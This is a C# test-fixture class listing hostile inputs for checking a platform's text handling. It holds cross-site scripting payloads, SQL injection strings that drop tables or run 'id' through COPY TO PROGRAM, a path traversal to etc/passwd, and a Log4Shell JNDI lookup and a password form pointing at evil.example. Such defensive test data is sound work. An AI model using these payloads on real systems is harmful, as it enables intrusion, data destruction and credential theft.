using System.Globalization;
using Engage.Contracts.Texts;

namespace Engage.Api.Tests.Hostile;

/// <summary>
/// What attackers type into text fields: scripts for the next reader's browser, SQL for the database, and what trips
/// parsers up. After the OWASP cheat sheets on cross-site scripting and SQL injection; written for this platform.
/// </summary>
internal static class HostileTexts
{
    /// <summary>Is set by a script that gets to run; a test of pages looks for it.</summary>
    public const string Mark = "__engageHit";

    public static readonly string[] Scripts =
    [
        $"<script>window.{Mark}=1</script>",
        $"<ScRiPt >window.{Mark}=1</sCrIpT>",
        $"<img src=x onerror=\"window.{Mark}=1\">",
        $"<img src=x onerror=window.{Mark}=1//",
        $"<svg/onload=window.{Mark}=1>",
        $"<svg><script href=\"data:,window.{Mark}=1\"/></svg>",
        $"\"><script>window.{Mark}=1</script>",
        $"'\"><img src=x onerror=window.{Mark}=1>",
        $"</title><script>window.{Mark}=1</script>",
        $"</textarea><script>window.{Mark}=1</script>",
        $"<iframe srcdoc=\"<script>parent.{Mark}=1</script>\"></iframe>",
        $"<a href=\"javascript:window.{Mark}=1\">click</a>",
        $"javascript:window.{Mark}=1",
        $"<details open ontoggle=window.{Mark}=1>",
        $"<math><mtext><table><mglyph><style><img src=x onerror=window.{Mark}=1>",
        $"{{{{constructor.constructor('window.{Mark}=1')()}}}}",
        $"${{window.{Mark}=1}}",
        $"{{@html '<img src=x onerror=window.{Mark}=1>'}}",
        $"&lt;script&gt;window.{Mark}=1&lt;/script&gt;",
        $"\u003cscript\u003ewindow.{Mark}=1\u003c/script\u003e",
        $"<style>@import'data:text/css,*{{color:red}}';</style>",
        $"<base href=\"https://evil.example/\">",
        $"<meta http-equiv=refresh content=\"0;url=data:text/html,<script>window.{Mark}=1</script>\">",
        $"<form action=https://evil.example><input name=password>",
    ];

    public static readonly string[] Statements =
    [
        "'; DROP TABLE activity_event; --",
        "'); DELETE FROM room_log; --",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "1; UPDATE book_posting SET amount = 0",
        "' UNION SELECT name, sql, 1 FROM sqlite_master --",
        "'; SELECT pg_sleep(5); --",
        "'||(SELECT version())||'",
        "\\'; DROP TABLE catalogue_entry; --",
        "%' ESCAPE '\\' OR 1=1 --",
        "Robert'); DROP TABLE personal_key;--",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "'; COPY (SELECT 1) TO PROGRAM 'id'; --",
        "$$; DROP TABLE book_document; $$",
        "E'\\047; DROP TABLE model; --",
    ];

    public static readonly string[] Oddities =
    [
        "%00%0d%0aSet-Cookie: a=b",
        "..%2f..%2f..%2fetc%2fpasswd",
        "{\"$gt\":\"\"}",
        "${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"https://evil.example\")",
        "\u202Egpj.exe",
        "e\u0301\u0301\u0301\u0301\u0301 Z\u0351\u036B\u0343\u036A",
        "\U0001F469\u200D\U0001F469\u200D\U0001F467",
        "A\uFEFFB\u200BC",
        "林'老师\"<b>课</b>",
    ];

    public static string[] All => [.. Scripts, .. Statements, .. Oddities];

    /// <summary>Without those that no name may have, since nobody sees what is in them.</summary>
    public static string[] Nameable => Array.FindAll(All, text => HiddenCharacters.WhatIsWrong(text) is null);

    /// <summary>Without those that rooms tidy up, taking away what nobody sees.</summary>
    public static string[] Visible => Array.FindAll(All, text => !IsTidied(text));

    /// <summary>Rooms take away of it what nobody sees.</summary>
    public static bool IsTidied(string text) => text.Any(IsInvisible);

    private static bool IsInvisible(char c) =>
        char.GetUnicodeCategory(c) is UnicodeCategory.Format or UnicodeCategory.NonSpacingMark;
}
